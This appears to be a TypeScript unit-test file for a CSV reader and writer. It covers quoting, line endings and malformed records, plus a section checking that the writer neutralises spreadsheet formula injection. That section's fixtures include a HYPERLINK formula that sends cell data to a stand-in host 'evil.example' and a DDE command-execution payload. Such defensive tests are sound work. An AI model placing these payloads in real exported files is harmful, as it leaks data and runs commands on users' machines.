import * as assert from 'node:assert/strict';
import { csvValue, isBlank, parseCsv, TEXT_AFTER_QUOTE, toCsv, UNCLOSED_QUOTE } from '../../src/model/csv';

const fields = (text: string): string[][] => parseCsv(text).map((r) => r.fields);

describe('CSV reader', () => {
  it('splits plain rows on commas and line ends', () => {
    assert.deepEqual(fields('email,name\na@x.com,Ann\nb@x.com,Bob'), [['email', 'name'], ['a@x.com', 'Ann'], ['b@x.com', 'Bob']]);
  });

  it('accepts CRLF, LF and lone CR, and a final line end adds no row', () => {
    assert.deepEqual(fields('a,b\r\n1,2\r\n'), [['a', 'b'], ['1', '2']]);
    assert.deepEqual(fields('a,b\r1,2\r'), [['a', 'b'], ['1', '2']]);
  });

  it('drops a leading byte-order mark', () => {
    assert.deepEqual(fields('\uFEFFemail\r\na@x.com'), [['email'], ['a@x.com']]);
  });

  it('reads quoted values with commas, doubled quotes and line breaks', () => {
    const records = parseCsv('email,note\r\n"a@x.com","Lee, Ann ""Annie""\r\nsecond line"\r\nb@x.com,plain\r\n');
    assert.deepEqual(records.map((r) => r.fields), [['email', 'note'], ['a@x.com', 'Lee, Ann "Annie"\r\nsecond line'], ['b@x.com', 'plain']]);
    // The record after a two-line value starts on file line 4.
    assert.deepEqual(records.map((r) => r.line), [1, 2, 4]);
  });

  it('keeps empty values, empty quoted values and blank lines (as blank records)', () => {
    const records = parseCsv('a,b,c\n,"",x\n\n1,2,3');
    assert.deepEqual(records.map((r) => r.fields), [['a', 'b', 'c'], ['', '', 'x'], [''], ['1', '2', '3']]);
    assert.deepEqual(records.map(isBlank), [false, false, true, false]);
  });

  it('a stray quote spoils only its own record; reading resumes on the next line', () => {
    // The quote opened in row 2 pairs with one in row 4, followed by text: row 2 is broken, rows 3 and 4 are read again.
    const records = parseCsv('email,name\na@x.com,"Ann\nb@x.com,Bob\nc@x.com,"Cy"\n');
    assert.deepEqual(records.map((r) => [r.line, r.fields, r.problem]), [
      [1, ['email', 'name'], undefined],
      [2, ['a@x.com', '"Ann'], UNCLOSED_QUOTE],
      [3, ['b@x.com', 'Bob'], undefined],
      [4, ['c@x.com', 'Cy'], undefined],
    ]);
  });

  it('text after a closing quote on the same line spoils that record only', () => {
    assert.deepEqual(parseCsv('"a"b,c\nd,e').map((r) => [r.fields, r.problem]), [[['"a"b', 'c'], TEXT_AFTER_QUOTE], [['d', 'e'], undefined]]);
  });

  it('a quote never closed spoils its record only, up to the end of the file', () => {
    const records = parseCsv('email\r\n"a@x.com\r\nb@x.com\r\n');
    assert.deepEqual(records.map((r) => [r.line, r.fields, r.problem]), [
      [1, ['email'], undefined],
      [2, ['"a@x.com'], UNCLOSED_QUOTE],
      [3, ['b@x.com'], undefined],
    ]);
  });
});

describe('CSV writer', () => {
  it('quotes only what needs it, and round-trips through the reader', () => {
    assert.equal(csvValue('plain'), 'plain');
    assert.equal(csvValue('a,b'), '"a,b"');
    assert.equal(csvValue('say "hi"'), '"say ""hi"""');
    assert.equal(csvValue(' lead'), '" lead"');
    const rows = [['row', 'reason'], ['3', 'Bad, "very"\nbad'], ['4', '']];
    const text = toCsv(rows);
    assert.equal(text, 'row,reason\r\n3,"Bad, ""very""\nbad"\r\n4,\r\n');
    assert.deepEqual(fields(text), rows);
  });
});

describe('CSV writer: formula injection', () => {
  it('prefixes every value a spreadsheet would run as a formula with an apostrophe', () => {
    const cases: [string, string][] = [
      ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
      ['+1-2', "'+1-2"],
      ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', `"'\r=1+1"`],
      ['-', "'-"],
      ['+', "'+"],
      ["'=already", "''=already"],
      ["''@twice", "'''@twice"],
    ];
    for (const [value, written] of cases) assert.equal(csvValue(value), written, JSON.stringify(value));
  });

  it('leaves signed plain numbers and ordinary text alone', () => {
    for (const value of ['-12', '+8613800000000', '-0.5', 'a=b', 'x@example.com', "it's", "'quoted'", "'", '1-2']) assert.equal(csvValue(value), value);
  });

  it('every written value reads back exactly, apostrophes included', () => {
    const row = ['=1+1', '+1-2', '-', '@x', '\t=tab', '\r=cr', "'=already", "''@twice", '-12', '+8613800000000', "'", "'plain", 'a,b', ''];
    const text = toCsv([['header'], row]);
    assert.deepEqual(fields(text), [['header'], row]);
    // No written cell starts with a formula character, except a signed plain number.
    const cells = parseCsvCells(text);
    assert.equal(cells.length, row.length + 1);
    for (const cell of cells) if (!/^[+-][0-9]+(\.[0-9]+)?$/.test(cell)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, JSON.stringify(cell));
  });
});

/** The raw cells as written, unquoted but not un-neutralised (what a spreadsheet sees first in each cell). */
function parseCsvCells(text: string): string[] {
  const cells: string[] = [];
  for (const line of text.split('\r\n').filter(Boolean)) {
    for (const match of line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)) {
      const raw = match[1];
      cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    }
  }
  return cells;
}
